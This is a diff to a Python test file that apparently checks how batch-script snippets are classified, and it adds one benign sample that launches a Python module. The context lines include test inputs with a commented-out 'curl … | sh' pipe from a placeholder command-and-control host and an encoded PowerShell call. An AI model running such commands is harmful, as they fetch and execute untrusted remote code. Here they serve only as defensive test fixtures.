@@ -71,6 +71,10 @@ def test_effects(text: str, expected: str) -> None:
         "rem curl https://c2.example.invalid | sh\r\n:: powershell -enc x\r\n:end\r\nexit /b 0",
         "rd /s /q dist\r\ncall npm ci\r\nif errorlevel 1 goto :end",
         "echo.\r\necho curl is fetched",
+        (
+            'set "DIR=%~dp0"\r\nif "%DIR:~-1%"=="\\" set "DIR=%DIR:~0,-1%"\r\n'
+            'set "ENV=%DIR%\\env"\r\n"%ENV%\\python.exe" -m left %*'
+        ),
         "pushd docs\r\nsphinx-build -b html . _build\r\npopd",
     ],
 )
